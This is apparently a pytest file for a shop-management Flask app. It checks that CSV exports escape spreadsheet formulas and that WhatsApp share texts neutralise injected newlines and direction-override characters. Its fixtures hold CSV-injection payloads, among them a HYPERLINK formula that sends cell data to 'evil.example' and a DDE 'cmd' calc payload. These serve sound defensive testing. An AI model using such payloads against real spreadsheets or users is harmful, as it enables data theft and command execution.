"""User data leaving as text another program reads (issue 24, item 10): every CSV the app sends
(found from the URL map, so a new export cannot be missed) and the WhatsApp texts go through
web/safe_text; a name that starts like a formula is stored and shown as typed."""
import csv
import io
import re
from decimal import Decimal
from urllib.parse import unquote

import pytest
from flask import url_for

from tests.factories import ADMIN, login, make_product, make_store, make_supplier, make_user
from tests.test_expiry import stock_in
from webapp.extensions import db
from webapp.models import Product
from webapp.models.types import utcnow
from webapp.services import commands, imports, khata, ledger, payables, purchasing, sales
from webapp.services.audit import Actor
from webapp.web.safe_text import FORMULA_START, message_value, spreadsheet_cell

NUMBER = re.compile(r"-?\d+(\.\d+)?")
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def shop(app):
    store = make_store(code="KHI-0001", name="@SUM(1+1) Kiryana")
    supplier = make_supplier(name="+92 Traders", phone="0300-1234567")
    product = make_product(sku="EVIL-1", name=EVIL, unit="piece", reorder_level="50",
                           cost="10", sale_price="20", category="-2+3")
    other = make_product(sku="ATTA-1", name="Atta\nTotal: Rs 0\u202e", unit="pack",
                         sale_price="100")
    for p in (product, other):
        ledger.record_movement(ADMIN, commands.Movement.parse(
            store_id=store.id, product_id=p.id, type="stock_in", quantity=10,
            note="=cmd|' /C calc'!A0"))
    # The expiring report gets a batch of a tracked product to list.
    dahi = make_product(sku="DAHI-1", name="-Dahi", unit="piece", cost="80",
                        tracks_expiry=True)
    stock_in(store, dahi, 5, 3)
    manager = make_user("manager", username="manager")
    sale = sales.complete_sale(ADMIN, store_id=store.id, lines=[
        {"product_id": product.id, "quantity": 1}, {"product_id": other.id, "quantity": 1}])
    order = purchasing.create_order(ADMIN, manager, store_id=store.id, supplier_id=supplier.id,
                                    lines=[{"product_id": product.id, "packs": "2"},
                                           {"product_id": other.id, "packs": "1"}],
                                    note="line one\nTotal: 0")
    job = imports.check(Actor(user_id=manager.id, source="web", ip="127.0.0.1"), "products",
                        'sku,name,unit,sale price\nBAD-1,"=1+1",piece,x\n'.encode(), "p.csv")
    # The money exports (receivables, cash book) get a customer and a supplier to name.
    customer = khata.create_customer(ADMIN, manager, store_id=store.id,
                                     name=EVIL).data["customer"]
    sales.complete_sale(ADMIN, store_id=store.id, customer_id=customer["id"],
                        lines=[{"product_id": other.id, "quantity": 1}],
                        payments=[{"method": "credit", "amount": "100"}])
    khata.receive_payment(ADMIN, manager, customer["id"], amount="40", method="cash")
    payables.add_receipt(db.session.connection(), ADMIN, supplier.id, store.id,
                         Decimal("50"), None, utcnow())
    db.session.commit()
    payables.pay(ADMIN, manager, supplier.id, store_id=store.id, amount="20", method="cash")
    return {"store": store.id, "product": product.id, "other": other.id,
            "sale": sale.data["sale"]["id"], "order": order.id, "job": job,
            "supplier": supplier.id}


def test_the_helpers():
    for value in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "  =1+1"):
        assert spreadsheet_cell(value) == "'" + value
    assert spreadsheet_cell("Atta") == "Atta" and spreadsheet_cell(-5) == -5
    assert spreadsheet_cell(None) == ""
    assert message_value("Atta\nTotal: Rs 0\u202e x") == "Atta Total: Rs 0 x"
    assert message_value(None) == ""


def _csv_urls(app, shop):
    ids = {"order_id": shop["order"], "job_id": shop["job"]}
    with app.test_request_context():
        found = [url_for(rule.endpoint, **{n: ids[n] for n in rule.arguments})
                 for rule in app.url_map.iter_rules()
                 if rule.rule.endswith(".csv") and "GET" in rule.methods]
    return sorted(found) + ["/reports/sales.csv?by=product", "/reports/low-stock.csv?cover_days=5"]


@pytest.mark.parametrize("lang", ["en", "ur"])
def test_every_csv_the_app_sends_writes_formulas_as_text(app, client, shop, lang):
    login(client, "manager")
    if lang == "ur":
        client.post("/language", data={"lang": "ur"})
    urls = _csv_urls(app, shop)
    assert len(urls) >= 8  # reports ×5, the order, the refused rows, …
    escaped_somewhere = set()
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.mimetype == "text/csv", url
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
        assert len(rows) > 1, url  # the shop gives every export a row to write
        for row in rows:
            for cell in row:
                if NUMBER.fullmatch(cell):
                    continue  # a figure the app wrote (a negative delta): a number, not text
                assert not cell.lstrip(" ").startswith(FORMULA_START), (url, cell)
                if cell in ("'" + EVIL, "'=1+1", "'@SUM(1+1) Kiryana", "'+92 Traders",
                            "'-2+3", "'=cmd|' /C calc'!A0"):
                    escaped_somewhere.add(url.split("?")[0])
    # Every export that carries a typed name carried one of these (movements.csv carries
    # only the app's own type and reason codes).
    assert {"/reports/stock.csv", "/reports/low-stock.csv", "/reports/sales.csv",
            "/reports/valuation.csv", f"/purchasing/{shop['order']}.csv"} <= escaped_somewhere
    assert any(u.startswith("/imports/") for u in escaped_somewhere)
    # Stored and shown as typed.
    assert db.session.get(Product, shop["product"]).name == EVIL


def test_whatsapp_texts_keep_each_name_on_its_line(client, shop):
    login(client, "manager")
    receipt = client.get(f"/stores/{shop['store']}/sales/{shop['sale']}").get_data(as_text=True)
    text = unquote(receipt.split('href="https://wa.me/?text=')[1].split('"')[0])
    lines = text.split("\n")
    assert "Atta Total: Rs 0: 1 pack × Rs 100 = Rs 100" in lines
    assert sum(line.startswith("Total:") for line in lines) == 1  # only the real total
    assert "\u202e" not in text
    order = client.get(f"/purchasing/{shop['order']}").get_data(as_text=True)
    share = unquote(order.split('href="https://wa.me/923001234567?text=')[1].split('"')[0])
    assert "line one Total: 0" in share.split("\n")
    assert f"2 × 1 piece — {EVIL} (EVIL-1)" in share.split("\n")  # as typed: chat runs no formula
    assert not any(line.startswith("Total") for line in share.split("\n"))
